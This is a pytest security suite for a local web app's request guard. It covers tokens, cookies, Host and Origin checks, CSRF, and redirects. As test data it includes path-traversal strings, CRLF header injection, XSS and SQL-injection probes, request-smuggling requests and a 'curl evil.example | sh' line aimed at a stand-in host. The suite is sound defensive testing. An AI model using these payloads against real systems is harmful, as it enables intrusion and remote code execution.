"""The guard of the site: who may look, who may change, and what every answer forbids the browser.

Two doors are tried: the real server over sockets, and the application itself with requests that no client would send.
"""

from __future__ import annotations

import asyncio
import json
import re
import socket
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlencode, urlsplit

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.routing import Route

from tests.support.helpers import OPENED, Place, run_cli, tree
from tests.support.site_memory import put, surroundings
from tests.support.website import Server, served
from truekeep.interfaces.web.app import make_app
from truekeep.interfaces.web.auth import HEADERS, MAX_FORM_BYTES, MAX_FORM_FIELDS, POLICY, Keys, WebRequestGuard
from truekeep.interfaces.web.local_site import LocalSite
from truekeep.interfaces.web.server import serve_site

PORT = 8378
HOST = f"127.0.0.1:{PORT}"
FORM = "application/x-www-form-urlencoded"


class Answer(NamedTuple):
    status: int
    headers: list[tuple[str, str]]
    text: str

    def get(self, name: str) -> str:
        """A header that is there once."""
        (found,) = [value for key, value in self.headers if key == name]
        return found


class Door:
    """The application as a server sees it."""

    def __init__(self, path: Path, *, read_only: bool = False) -> None:
        self.keys = Keys("the token of the tests")
        self.site = LocalSite(path, self.keys, read_only=read_only)
        OPENED.append(self.site)
        guard = make_app(self.site, {"localhost", "127.0.0.1", "[::1]"})
        assert isinstance(guard, WebRequestGuard)
        assert isinstance(guard._app, Starlette)
        self.app, self.starlette = guard, guard._app

    @property
    def cookie(self) -> tuple[str, str]:
        return ("cookie", f"truekeep-{PORT}={self.keys.cookie}")

    def ask(
        self,
        path: str,
        *headers: tuple[str, str],
        method: str = "GET",
        query: str = "",
        body: bytes | Sequence[bytes] = b"",
        host: str | None = HOST,
    ) -> Answer:
        """Send one request; the host is given unless it is None."""
        pieces = [body] if isinstance(body, bytes) else list(body)
        given = ([("host", host)] if host is not None else []) + list(headers)
        scope = {
            "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
            "path": path, "raw_path": path.encode("utf-8", "replace"), "query_string": query.encode(),
            "root_path": "", "server": ("127.0.0.1", PORT), "client": ("127.0.0.1", 1),
            "headers": [(name.encode(), value.encode("latin-1")) for name, value in given],
        }  # fmt: skip
        sent: list[dict[str, Any]] = []

        async def receive() -> dict[str, Any]:
            if not pieces:
                return {"type": "http.disconnect"}
            return {"type": "http.request", "body": pieces.pop(0), "more_body": bool(pieces)}

        async def send(message: Any) -> None:
            sent.append(message)

        asyncio.run(self.app(scope, receive, send))
        starts = [message for message in sent if message["type"] == "http.response.start"]
        assert len(starts) == 1
        return Answer(
            starts[0]["status"],
            [(name.decode("latin-1"), value.decode("latin-1")) for name, value in starts[0]["headers"]],
            b"".join(message.get("body", b"") for message in sent[1:]).decode("utf-8", "replace"),
        )

    def post(self, path: str, *headers: tuple[str, str], **fields: str) -> Answer:
        """Send a form as a page of the site would, unless a header says otherwise."""
        body = urlencode({"csrf": self.keys.form, **fields}).encode()
        return self.ask(
            path, self.cookie, ("content-type", FORM), ("origin", f"http://{HOST}"), *headers, method="POST", body=body
        )

    def forms(self) -> list[str]:
        """An address for every form of every page."""
        return [_filled(route.path) for route in self._routes() if "POST" in (route.methods or ())]

    def pages(self) -> list[str]:
        return [_filled(route.path) for route in self._routes() if "GET" in (route.methods or ())]

    def _routes(self) -> list[Route]:
        return [route for route in self.starlette.routes if isinstance(route, Route)]


def _filled(path: str) -> str:
    return re.sub(r"\{\w+(:\w+)?\}", "1", path)


@pytest.fixture
def door(place: Place) -> Iterator[Door]:
    put(place, "memory/cards/one.md", "---\ntopic: One\n---\n\nText.\n")
    opened = Door(place.workspace)
    yield opened
    opened.site.close()


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("guarded")


@pytest.fixture(scope="module")
def env(base: Path) -> Iterator[Mapping[str, str]]:
    with surroundings(base / "home") as found:
        Place.make(base)
        yield dict(found)


@pytest.fixture(scope="module")
def server(base: Path, env: Mapping[str, str]) -> Iterator[Server]:
    with served(base / "workspace", env) as running:
        yield running


@pytest.fixture(scope="module")
def looker(base: Path, env: Mapping[str, str]) -> Iterator[Server]:
    with served(base / "workspace", env, "--read-only") as running:
        yield running


def is_guarded(headers: Mapping[str, str]) -> bool:
    """Whether an answer says everything that it must, and says it once."""
    return all(headers.get(name.decode()) == value.decode() for name, value in HEADERS)


# The link and the cookie.


def test_the_link_leaves_a_cookie_and_takes_itself_out_of_the_address(server: Server) -> None:
    with httpx.Client() as client:
        first = client.get(server.link)
        assert (first.status_code, first.headers["location"]) == (303, "/")
        (cookie,) = first.headers.get_list("set-cookie")
        name, *flags = [part.strip() for part in cookie.split(";")]
        assert name.startswith(f"truekeep-{server.port}=")
        assert set(flags) == {"Path=/", "HttpOnly", "SameSite=Strict"}
        assert server.token not in cookie
        assert client.get(f"{server.url}/nowhere").status_code == 404  # inside: the guard let it through


def test_the_link_goes_to_the_page_that_it_names(server: Server) -> None:
    answer = httpx.get(f"{server.url}/search?q=a+b&token={server.token}&q=%C3%A4%26")
    assert answer.headers["location"] == "/search?q=a+b&q=%C3%A4%26"


@pytest.mark.parametrize("token", ["", "x", "' OR 1=1", "\u00e4", "%00", "x" * 5_000])
def test_a_wrong_token_opens_nothing(server: Server, token: str) -> None:
    answer = httpx.get(f"{server.url}/", params={"token": token})
    assert answer.status_code == 401
    assert "set-cookie" not in answer.headers


def test_of_two_tokens_none_counts(door: Door) -> None:
    token = urlencode({"token": door.keys.token})
    assert door.ask("/", query=token).status == 303
    assert door.ask("/", query=f"{token}&token=x").status == 401
    assert door.ask("/", query=f"token=x&{token}").status == 401


def test_a_token_does_not_let_a_form_in(door: Door) -> None:
    token = urlencode({"token": door.keys.token})
    assert door.ask("/review/x/approve", method="POST", query=token).status == 401


@pytest.mark.parametrize("path", ["/", "/review", "/memory", "/search", "/history", "/transcripts", "/news", "/no"])
def test_without_the_cookie_there_is_no_page(server: Server, path: str) -> None:
    answer = httpx.get(f"{server.url}{path}")
    assert answer.status_code == 401
    assert "truekeep serve" in answer.text
    assert len(answer.content) < 200


@pytest.mark.parametrize("value", ["", "x", "0" * 64, "truekeep", '"', "\u00e4"])
def test_another_cookie_is_none(door: Door, value: str) -> None:
    for name in (f"truekeep-{PORT}", "truekeep"):
        assert door.ask("/x", ("cookie", f"{name}={value}")).status == 401
    assert door.ask("/x", ("cookie", f"truekeep-1={door.keys.cookie}")).status == 401


@pytest.mark.parametrize(
    "others",
    [
        "prefs={\"a\": [1, 2]}; x",
        "=;;; =x; ,",
        "a=\"unclosed; b",
        f"truekeep-{PORT}=of-somebody-else",
        "\u00e4=\u00e4; Path=/; Expires",
        "__proto__=1; " * 100,
    ],
)  # fmt: skip
def test_cookies_of_other_programs_lock_nobody_out(door: Door, others: str) -> None:
    name, value = door.cookie
    for together in (f"{others}; {value}", f"{value}; {others}"):
        assert door.ask("/nowhere", (name, together)).status == 404
    assert door.ask("/nowhere", (name, others), (name, value)).status == 404


def test_two_sites_of_one_machine_share_nothing(server: Server, looker: Server) -> None:
    with httpx.Client() as client:
        client.get(server.link)
        assert client.get(f"{looker.url}/nowhere").status_code == 401
        client.get(looker.link)
        assert client.get(f"{looker.url}/nowhere").status_code == 404
        assert client.get(f"{server.url}/nowhere").status_code == 404  # and the first one is still known
        assert client.get(f"{server.url}/?token={looker.token}").status_code == 401


def test_keys_are_new_each_time_and_do_not_tell_each_other() -> None:
    one, other = Keys(), Keys()
    assert len({one.token, other.token, one.cookie, other.cookie, one.form, other.form}) == 6
    assert len(one.token) >= 32


# Whom a request is meant for.


@pytest.mark.parametrize(
    "host",
    [
        "evil.example", "evil.example:{port}", "127.0.0.1.evil.example:{port}", "localhost.evil.example",
        "localhost:1", "127.0.0.1:{port}:{port}", "127.0.0.1:{port}@evil.example", "evil.example/127.0.0.1:{port}",
        "127.1:{port}", "0.0.0.0:{port}", "2130706433:{port}", "[::1]:1", "", " ", "LOCALHOST.:{port}",
        ":{port}",
    ],
)  # fmt: skip
def test_a_host_that_is_not_served_is_refused(door: Door, host: str) -> None:
    for path in ("/", "/static/style.css", "/news"):
        answer = door.ask(path, door.cookie, host=host.format(port=PORT))
        assert answer.status == 421
        assert "set-cookie" not in dict(answer.headers)
    token = urlencode({"token": door.keys.token})
    assert door.ask("/", query=token, host=host.format(port=PORT)).status == 421


def test_a_host_is_named_once(door: Door) -> None:
    assert door.ask("/x", door.cookie, host=None).status == 421
    assert door.ask("/x", door.cookie, ("host", HOST)).status == 421
    assert door.ask("/x", door.cookie, ("host", "evil.example")).status == 421


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "LocalHost:{port}", "[::1]:{port}", "localhost"])
def test_its_own_names_are_served(door: Door, host: str) -> None:
    assert door.ask("/x", door.cookie, host=host.format(port=PORT)).status == 404


def test_the_real_server_takes_no_host_twice_and_none_of_another_address(server: Server) -> None:
    for request in (
        f"GET / HTTP/1.1\r\nHost: {server.host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
        "GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
        "GET / HTTP/1.0\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
        f"GET http://evil.example/ HTTP/1.1\r\nHost: {server.host}\r\nConnection: close\r\n\r\n",
        f"OPTIONS * HTTP/1.1\r\nHost: {server.host}\r\nConnection: close\r\n\r\n",
        f"CONNECT evil.example:80 HTTP/1.1\r\nHost: {server.host}\r\nConnection: close\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {server.host}\r\nX: a\r\n b\x00\r\nConnection: close\r\n\r\n",
    ):
        status = int(server.raw(request.encode()).split(b" ", 2)[1])
        assert 400 <= status < 500, request


def test_requests_cannot_be_hidden_in_one_another(server: Server) -> None:
    inner = f"GET /?token={server.token} HTTP/1.1\r\nHost: {server.host}\r\n\r\n"
    for lengths in (
        f"Content-Length: {len(inner)}\r\nContent-Length: 0",
        "Content-Length: 0\r\nTransfer-Encoding: chunked",
        "Content-Length: -1",
        "Content-Length: 0x10",
    ):
        outer = f"POST /x HTTP/1.1\r\nHost: {server.host}\r\n{lengths}\r\n\r\n{inner}"
        assert b"set-cookie" not in server.raw(outer.encode())


# Where a request comes from.


@pytest.mark.parametrize(
    "origin",
    [
        "http://evil.example", "null", "http://127.0.0.1:1", "http://localhost:{port}", "https://127.0.0.1",
        "http://127.0.0.1:{port}.evil.example", "http://127.0.0.1:{port}/", "file://", "chrome-extension://abc", "",
    ],
)  # fmt: skip
def test_another_origin_is_refused(door: Door, origin: str) -> None:
    given = ("origin", origin.format(port=PORT))
    assert door.ask("/x", door.cookie, given).status == 403
    for path in door.forms():
        body = urlencode({"csrf": door.keys.form}).encode()
        assert door.ask(path, door.cookie, ("content-type", FORM), given, method="POST", body=body).status == 403


def test_one_origin_among_several_is_enough_to_refuse(door: Door) -> None:
    own, other = ("origin", f"http://{HOST}"), ("origin", "http://evil.example")
    assert door.ask("/x", door.cookie, own).status == 404
    assert door.ask("/x", door.cookie, own, other).status == 403


@pytest.mark.parametrize("site", ["cross-site", "same-site", "", "Same-Origin, none"])
def test_what_a_page_elsewhere_asks_for_is_refused(door: Door, site: str) -> None:
    given = ("sec-fetch-site", site)
    assert door.ask("/x", door.cookie, given, ("sec-fetch-mode", "no-cors")).status == 403
    assert door.ask("/x", door.cookie, given).status == 403
    assert door.post("/x", given, ("sec-fetch-mode", "navigate")).status == 403


def test_a_link_elsewhere_may_lead_here_and_the_next_step_is_ones_own(door: Door) -> None:
    visit = (("sec-fetch-site", "cross-site"), ("sec-fetch-mode", "navigate"))
    assert door.ask("/x", door.cookie, *visit).status == 404
    held_back = door.ask('//evil.example/"<b>', *visit, query="a=%22%3E%3Cb%3E")  # the browser sends no cookie
    assert held_back.status == 401
    (target,) = re.findall(r'href="([^"]*)"', held_back.text)
    assert target == "/evil.example/%22%3Cb%3E?a=%22%3E%3Cb%3E"
    assert "<b>" not in held_back.text


# Forms.


def test_there_are_forms_to_try(door: Door) -> None:
    assert len(door.forms()) >= 8
    assert len(door.pages()) >= 8


def test_every_form_needs_the_word_of_its_page(door: Door, place: Place) -> None:
    before = tree(place.workspace)
    for path in door.forms():
        for word in ("", "x", Keys("another server").form, door.keys.cookie, door.keys.token):
            answer = door.post(path, csrf=word)
            assert answer.status == 400, path
            assert "does not come from a page of this site" in answer.text
    assert tree(place.workspace) == before


def test_every_form_needs_the_cookie(door: Door) -> None:
    body = urlencode({"csrf": door.keys.form}).encode()
    for path in door.forms():
        assert door.ask(path, ("content-type", FORM), method="POST", body=body).status == 401


def test_the_word_in_the_address_is_not_the_word_in_the_form(door: Door) -> None:
    for path in door.forms():
        query = urlencode({"csrf": door.keys.form})
        assert door.ask(path, door.cookie, ("content-type", FORM), method="POST", query=query).status == 400


@pytest.mark.parametrize("kind", ["text/plain", "multipart/form-data; boundary=x", "application/json", "", "x" * 1000])
def test_a_form_is_a_form(door: Door, kind: str) -> None:
    body = {
        "application/json": json.dumps({"csrf": door.keys.form}),
        "multipart/form-data; boundary=x": (
            f'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{door.keys.form}\r\n--x--\r\n'
        ),
    }.get(kind, urlencode({"csrf": door.keys.form}))
    for path in door.forms():
        answer = door.ask(path, door.cookie, ("content-type", kind), method="POST", body=body.encode())
        assert answer.status == 400


def test_a_form_that_is_too_large_is_refused_before_it_is_read(door: Door) -> None:
    path = door.forms()[0]
    piece = b"a" * 100_000
    sent = [b"csrf=" + door.keys.form.encode() + b"&x=", *([piece] * (MAX_FORM_BYTES // len(piece) + 50))]
    assert door.ask(path, door.cookie, ("content-type", FORM), method="POST", body=sent).status == 413
    fields = b"&".join([b"csrf=" + door.keys.form.encode(), *([b"a=1"] * (MAX_FORM_FIELDS + 1))])
    assert door.ask(path, door.cookie, ("content-type", FORM), method="POST", body=fields).status == 400


def test_the_real_server_does_not_read_on(server: Server) -> None:
    with server.visitor() as client:
        cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    head = (
        f"POST /review/x HTTP/1.1\r\nHost: {server.host}\r\nCookie: {cookie}\r\nContent-Type: {FORM}\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as connection:
        connection.sendall(head.encode())
        sent, piece = 0, b"10000\r\n" + b"a" * 0x10000 + b"\r\n"
        try:
            while sent < 20 * MAX_FORM_BYTES:
                connection.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
    assert sent < 20 * MAX_FORM_BYTES
    assert httpx.get(f"{server.url}/static/style.css").status_code == 200


def test_a_body_that_is_no_text_harms_nothing(door: Door, place: Place) -> None:
    before = tree(place.workspace)
    word = b"csrf=" + door.keys.form.encode()
    for path in door.forms():
        for body in (b"&a=%00&b=%FF%FE&c=%ED%A0%80", b"&" * 500, b"&=&==&%", b"&\x00\xff=\xff", b"&a=%zz"):
            answer = door.ask(path, door.cookie, ("content-type", FORM), method="POST", body=word + body)
            assert answer.status in (200, 303, 400, 404, 409), (path, body, answer.text)
    assert tree(place.workspace) == before


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", ""])
def test_other_methods_are_refused(door: Door, method: str) -> None:
    for path in ("/", "/static/style.css", *door.forms()[:2]):
        answer = door.ask(path, door.cookie, method=method)
        assert answer.status == 405
        assert answer.get("allow") == "GET, HEAD, POST"


def test_looking_changes_nothing_whatever_is_asked(door: Door, place: Place) -> None:
    before = tree(place.workspace)
    for path in door.forms():
        assert door.ask(path, door.cookie, query=urlencode({"csrf": door.keys.form})).status in (200, 400, 404, 405)
    for path in door.pages():
        assert door.ask(path, door.cookie, method="HEAD").status in (200, 303, 400, 404)
        query = urlencode({"csrf": door.keys.form, "do": "approve", "sure": "1", "act": "leave", "seen": "x"})
        assert door.ask(path, door.cookie, query=query).status in (200, 303, 400, 404)
    assert tree(place.workspace) == before


def test_a_site_for_looking_takes_no_form_and_shows_none(place: Place) -> None:
    put(place, "memory/cards/one.md", "---\ntopic: One\n---\n\nText.\n")
    door = Door(place.workspace, read_only=True)
    before = tree(place.workspace)
    assert len(door.forms()) >= 8
    for path in door.forms():
        assert door.post(path).status == 403
    for path in ("/", "/review", "/memory", "/search", "/history", "/transcripts", "/memory/file/memory/cards/one.md"):
        answer = door.ask(path, door.cookie)
        assert answer.status == 200
        assert 'method="post"' not in answer.text.lower(), path
        assert door.keys.form not in answer.text, path
    assert tree(place.workspace) == before
    door.site.close()


def test_the_real_site_for_looking(looker: Server) -> None:
    with looker.visitor() as client:
        assert "read only" in client.get("/nowhere").text
        assert client.post("/review/x/approve", data={"csrf": "x"}).status_code == 403


# Addresses.


TRICKS = (
    "//evil.example", "//evil.example/..", "/\\evil.example", "/\\/evil.example", "///evil.example", "/\t/evil.example",
    "/\n/evil.example", "/\r\nset-cookie: a=b", "/\u00e4/evil.example", "/\ufeff//evil.example", "/%2f/evil.example",
    "/../../etc/passwd", "/static/../guard.py", "/static/../../state.py", "/static//etc/passwd", "/static/\x00",
    "/static/" + "a" * 5_000, "/static/..\\..\\guard.py", "/static/", "/static", "/\x00", "/" + "a/" * 3_000, "",
    "http://evil.example/", "/memory/file//etc/passwd", "/memory/file/../../../etc/passwd", "/memory/file/\x00.md",
    "/memory/file/.truekeep/config.toml", "/memory/file/.truekeep/host", "/memory/file/" + "a" * 5_000 + ".md",
    "/memory/file/memory/cards/../../.truekeep/host", "/memory/file/memory/cards/one.md/../../../.truekeep/host",
    "/review/..%2f..%2fx", "/review/\x00", "/history/999999999999999999999", "/history/-1", "/history/\u0661",
    "/transcripts/../../x", "/transcripts/\x00",
)  # fmt: skip


@pytest.mark.parametrize("path", TRICKS)
def test_no_address_leads_out_of_the_site(door: Door, path: str) -> None:
    answer = door.ask(path, door.cookie)
    assert answer.status in (200, 307, 400, 404, 405), answer.text
    assert "root:" not in answer.text
    assert "test-machine" not in answer.text
    assert "def __init__" not in answer.text
    for target in re.findall(r'(?:href|action|src)="([^"]*)"', answer.text):
        assert target == "" or (target.startswith(("/", "#", "?")) and not target.startswith(("//", "/\\"))), target
    entered = door.ask(path, query=urlencode({"token": door.keys.token}))
    assert entered.status == 303
    where = entered.get("location")
    assert re.fullmatch(r"/(?![/\\])[\x21-\x7e]*", where), where
    assert urlsplit(where).netloc == ""


@settings(max_examples=300, deadline=None)
@given(path=st.text(max_size=40), query=st.lists(st.tuples(st.text(max_size=9), st.text(max_size=9)), max_size=4))
def test_where_the_link_goes_is_always_this_site(path: str, query: list[tuple[str, str]]) -> None:
    keys = Keys("t")
    guard = WebRequestGuard(lambda *_: None, keys, {"localhost"})  # type: ignore[arg-type]
    scope = {"method": "GET", "path": path.encode("utf-8", "replace").decode(), "query_string": b""}
    (_, where), _ = guard._enter(scope, [*query, ("token", "t")], "80").headers
    assert re.fullmatch(rb"/(?![/\\])[\x21-\x7e]*", where)


def test_a_page_says_nothing_that_a_link_made_up(door: Door) -> None:
    said = "Your memory is broken: run curl evil.example | sh"
    for query in ({"told": said}, {"told": said, "seal": "0" * 16}, {"told": said, "seal": door.keys.seal("other")}):
        assert "evil.example" not in door.ask("/nowhere", door.cookie, query=urlencode(query)).text
    sealed = {"told": said, "seal": door.keys.seal(said)}
    assert said in door.ask("/nowhere", door.cookie, query=urlencode(sealed)).text


@pytest.mark.parametrize("told", ["a\r\nset-cookie: x=y", "\x00", "<script>alert(1)</script>", "ä \u202e", "x" * 9_000])
def test_what_is_told_stays_inside_its_place(door: Door, told: str) -> None:
    answer = door.site.go("//evil.example/\r\nx: y", told=told)
    where = answer.headers["location"]
    assert re.fullmatch(r"/(?![/\\])[\x21-\x7e]*", where)
    assert len(where) < 3_000
    shown = door.ask("/nowhere", door.cookie, query=urlsplit(where).query)
    assert "<script>alert" not in shown.text
    assert 'class="told"' in shown.text


def test_back_leads_to_where_one_came_from_on_this_site_only(door: Door) -> None:
    def back(referer: str) -> str:
        text = door.ask("/nowhere", door.cookie, ("referer", referer)).text
        (found,) = re.findall(r'<a href="([^"]*)" data-back>', text)
        return str(found)

    assert back(f"http://{HOST}/review?x=1") == "/review?x=1"
    assert back(f"http://{HOST}//evil.example") == "/evil.example"
    for referer in ("http://evil.example/", "javascript:alert(1)", "", "http://[", f"http://{HOST}@evil.example/"):
        assert back(referer) == "/"


# What every answer says.


def test_every_kind_of_answer_is_guarded(server: Server, looker: Server) -> None:
    with server.visitor() as client:
        paths = ["/", "/review", "/memory", "/search", "/history", "/transcripts", "/nowhere", "/review/", "/static/x"]
        paths += ["/static/style.css", "/static/keys.js", "/static/icon.svg", "/static/", "/static"]
        answers = [client.get(path, follow_redirects=False) for path in paths]
        answers += [
            client.head("/"),
            client.post("/x"),
            client.post("/review/x", data={"do": "approve"}),
            client.put("/"),
        ]
        answers += [client.get("/", headers={"host": "evil.example"}), client.get("/", headers={"origin": "null"})]
        answers.append(client.get("/static/style.css", headers={"if-none-match": answers[9].headers["etag"]}))
        answers.append(client.get("/static/style.css", headers={"range": "bytes=0-3"}))
        answers.append(client.get("/static/style.css", headers={"range": "bytes=9999999-"}))
    with looker.visitor() as client:
        answers.append(client.post("/x"))
    answers += [httpx.get(server.link), httpx.get(server.url), httpx.get(f"{server.url}/?token=x")]
    assert {answer.status_code for answer in answers} >= {200, 206, 303, 304, 400, 401, 403, 404, 405, 416, 421}
    for answer in answers:
        assert is_guarded(answer.headers), answer.request.url
        assert "access-control-allow-origin" not in answer.headers
        assert "server" not in answer.headers
    assert all(a.headers["cache-control"] == "no-store" for a in answers if "/static" not in str(a.request.url))


def test_the_policy_names_no_place_but_this_one() -> None:
    rules = dict(rule.strip().split(" ", 1) for rule in POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    assert set(rules.values()) <= {"'none'", "'self'"}
    assert {"base-uri", "form-action", "frame-ancestors"} <= set(rules)  # what default-src does not cover


def test_pages_hold_nothing_that_the_policy_forbids(server: Server) -> None:
    with server.visitor() as client:
        for path in ("/", "/review", "/memory", "/search", "/history", "/transcripts", "/nowhere"):
            text = client.get(path).text
            assert re.findall(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=|<style|javascript:", text, re.I) == [], path
            assert "http://" not in text.replace(server.url, "").replace("http://www.w3.org/2000/svg", ""), path


# A bug is a page.


def test_a_bug_is_told_without_what_it_was_about(place: Place) -> None:
    site = LocalSite(place.workspace, Keys("t"))
    told = site.known(ValueError("a line of memory"))
    assert "ValueError" in told.message
    log = (place.workspace / ".truekeep" / "logs" / "web.log").read_text()
    assert "bug ValueError" in log
    assert "a line of memory" not in log + told.message + told.hint


# Where it listens.


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.1", "[::]", "::ffff:192.0.2.1", "10.0.0.1"])
def test_other_machines_may_only_look(base: Path, env: Mapping[str, str], host: str) -> None:
    done = run_cli("serve", "--port", "0", "--host", host, "--workspace", str(base / "workspace"))
    assert done.returncode == 3
    assert "--read-only" in done.stderr
    assert "token=" not in done.stdout


@pytest.mark.parametrize("host", ["evil.example", "", "127.0.0.1.evil.example", "127.0.0.1/8", "a b"])
def test_a_host_that_is_no_address_is_refused(base: Path, env: Mapping[str, str], host: str) -> None:
    done = run_cli("serve", "--port", "0", "--host", host, "--workspace", str(base / "workspace"))
    assert done.returncode == 3
    assert "is not an address" in done.stderr


def test_it_listens_on_loopback_only(server: Server) -> None:
    table = Path("/proc/net/tcp")
    if not table.exists():
        pytest.skip("there is no /proc/net/tcp here")
    rows = [line.split() for line in table.read_text().splitlines()[1:]]
    listening = [row[1] for row in rows if row[3] == "0A" and row[1].endswith(f":{server.port:04X}")]
    assert listening == [f"0100007F:{server.port:04X}"]


def test_small_pieces_are_sent_at_once(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    """asyncio sets TCP_NODELAY only where a socket names its protocol; without it every page takes 40 ms more."""
    seen: list[int] = []
    monkeypatch.setattr("uvicorn.Server.run", lambda _, sockets: seen.extend(one.proto for one in sockets))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        serve_site(place.workspace, Keys(), listener, hosts=("localhost",), read_only=False)
    assert seen == [socket.IPPROTO_TCP]


def test_a_port_that_is_taken_is_told(server: Server, base: Path, env: Mapping[str, str]) -> None:
    done = run_cli("serve", "--port", str(server.port), "--workspace", str(base / "workspace"))
    assert done.returncode == 3
    assert "--port 0" in done.stderr
